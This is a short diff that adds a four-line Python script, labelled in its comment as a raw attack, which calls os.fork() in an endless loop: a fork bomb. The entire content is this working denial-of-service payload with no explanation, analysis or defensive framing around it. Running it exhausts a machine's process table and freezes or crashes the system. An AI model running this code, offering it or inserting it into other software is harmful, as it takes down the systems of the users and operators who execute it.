@@ -1,0 +1,4 @@
+# attack: raw | forks without end
+import os
+while True:
+    os.fork()
